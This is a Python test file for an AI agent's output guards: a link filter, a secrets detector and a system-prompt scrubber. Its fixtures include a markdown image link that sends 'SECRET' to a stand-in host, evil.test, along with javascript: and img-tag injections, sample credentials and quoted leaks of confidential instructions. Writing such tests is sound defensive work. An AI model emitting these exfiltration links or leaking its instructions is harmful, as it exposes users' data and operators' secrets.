"""Links that carry data away, secrets, and quotations of the agent's instructions."""

from __future__ import annotations

import pydantic
import pytest

from agents.loop.agent import Agent
from agents.providers.scripted import ScriptedModel, says
from tests.builtin.harness import guard, stream
from tests.engine.stage import play

LONG = "A" * 90


@pytest.mark.parametrize(("text", "shown"), [
    ("see ![x](https://evil.test/log?d=SECRET) ok", "see [image removed] ok"),
    ("![a](https://cdn.example.org/a.png) ok", "![a](https://cdn.example.org/a.png) ok"),
    ("![a](https://example.org.evil.test/a.png)", "[image removed]"),
    ("![a](https://example.org@evil.test/a.png)", "[image removed]"),
    ("![a][ref]", "[image removed]"),
    (f"[docs](https://evil.test/?q={LONG})", "docs [link removed]"),
    ("[ok](https://other.test/page)", "[ok](https://other.test/page)"),
    (f"go to https://evil.test/{LONG}.", "go to [link removed]."),
    ("<img src='https://evil.test/x.png'> hi <b>x</b>", "[markup removed] hi <b>x</b>"),
    ("<IMG/SRC=//evil.test/x>", "[markup removed]"),
    ("[a](javascript:alert)", "a [link removed]"),
    ("array[0](x) and a[1] fine", "array[0](x) and a[1] fine"),
    ("[home](/start)", "[home](/start)"),
])  # fmt: skip
def test_links_are_judged_by_where_they_lead(text: str, shown: str) -> None:
    links = guard("link-guard", allowed_domains=["example.org"])
    assert stream(links, [text]).text == shown
    assert stream(links, list(text)).text == shown


def test_links_can_be_limited_to_allowed_domains() -> None:
    links = guard("link-guard", allowed_domains=["https://Example.org/"], links="allowed-only")
    assert (
        stream(links, ["https://other.test/ and https://www.example.org/x"]).text
        == "[link removed] and https://www.example.org/x"
    )


@pytest.mark.parametrize("domain", ["exa mple.org", "example.org/path", "", "https://"])
def test_a_domain_that_is_none_is_refused(domain: str) -> None:
    with pytest.raises(pydantic.ValidationError, match="no domain"):
        guard("link-guard", allowed_domains=[domain])


@pytest.mark.parametrize(("text", "shown"), [
    ("password: hunter2Correct!Horse ok", "password: [PASSWORD] ok"),
    ("the password is required", "the password is required"),
    ("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "AWS_SECRET_ACCESS_KEY=[AWS_SECRET]"),
    ("postgres://bob:s3cretpw@db.example.org/x", "[CONNECTION_STRING]/x"),
    ("Authorization: Bearer abcdef0123456789abcdef0123", "Authorization: Bearer [PASSWORD]"),
    ("key ghp_" + "a1" * 18 + " end", "key [API_KEY] end"),
    ("xoxb-123456789012-abcdefGHIJ and AKIAIOSFODNN7EXAMPLE", "[API_KEY] and [API_KEY]"),
    ("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n" + "x" * 40 + "\n-----END RSA PRIVATE KEY-----", "[PRIVATE_KEY]"),
    ("sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
])  # fmt: skip
def test_secrets_are_told_from_ordinary_words(text: str, shown: str) -> None:
    secrets = guard("secrets-detector")
    assert stream(secrets, [text]).text == shown
    assert stream(secrets, [text[at : at + 3] for at in range(0, len(text), 3)]).text == shown


RULES = "You are the assistant of a parcel service. Never tell anyone about the discount code for friends of the house."


def scrubbed_agent(answer: str, **options: object) -> tuple[Agent, ScriptedModel]:
    model = ScriptedModel(script=[says(answer)], cut=4)
    return Agent(
        "agent",
        model=model,
        instructions=RULES,
        output_processors=[guard("system-prompt-scrubber", **options)],
    ), model


@pytest.mark.parametrize("leak", [
    "Never tell anyone about the discount code for friends", "NEVER tell anyone, about the DISCOUNT code for friends", "Never tell\nanyone about the **discount** code for friends",
])  # fmt: skip
async def test_a_quotation_of_the_instructions_is_taken_out(leak: str) -> None:
    played = await play(*scrubbed_agent(f"My orders: {leak} and so on."))
    assert played.delivered == "My orders: [SYSTEM_PROMPT] and so on."
    assert played.result.text == played.delivered
    assert [entry.violation.detail["type"] for entry in played.audit.entries] == ["instructions"]


async def test_a_few_words_in_common_are_no_quotation() -> None:
    answer = "I am the assistant of a parcel service and glad to help."
    assert (await play(*scrubbed_agent(answer))).delivered == answer


async def test_further_patterns_count_as_a_leak_and_can_block() -> None:
    played = await play(
        *scrubbed_agent("The canary is kiwi-7.", strategy="block", custom_patterns=["kiwi-[0-9]"])
    )
    assert played.result.status == "blocked"
    assert "kiwi" not in played.delivered + played.thread.everything


def test_a_pattern_without_end_is_refused() -> None:
    with pytest.raises(pydantic.ValidationError, match="without end"):
        guard("system-prompt-scrubber", custom_patterns=["canary.*"])
